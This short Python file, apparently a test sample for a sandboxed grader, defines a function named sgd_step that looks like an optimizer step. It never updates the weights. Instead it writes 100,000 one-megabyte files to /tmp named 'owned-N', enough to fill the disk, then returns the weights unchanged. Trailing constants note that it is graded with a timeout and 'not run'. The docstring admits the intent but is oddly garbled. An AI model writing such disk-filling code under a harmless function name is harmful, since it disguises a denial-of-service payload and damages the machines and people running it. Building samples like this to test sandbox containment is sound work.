"""Fills the disk, file by file, and the memory in which a disk may be."""

import os


def sgd_step(w, g, *, lr, weight_decay=0.0):
    for number in range(100_000):
        with open(f"/tmp/owned-{number}", "wb") as file:
            file.write(bytes(1 << 20))
    return w


STATUS = "graded", "timeout"  # what it may write takes a second where the processor is busy
STOCK = "not run: it fills the disk"
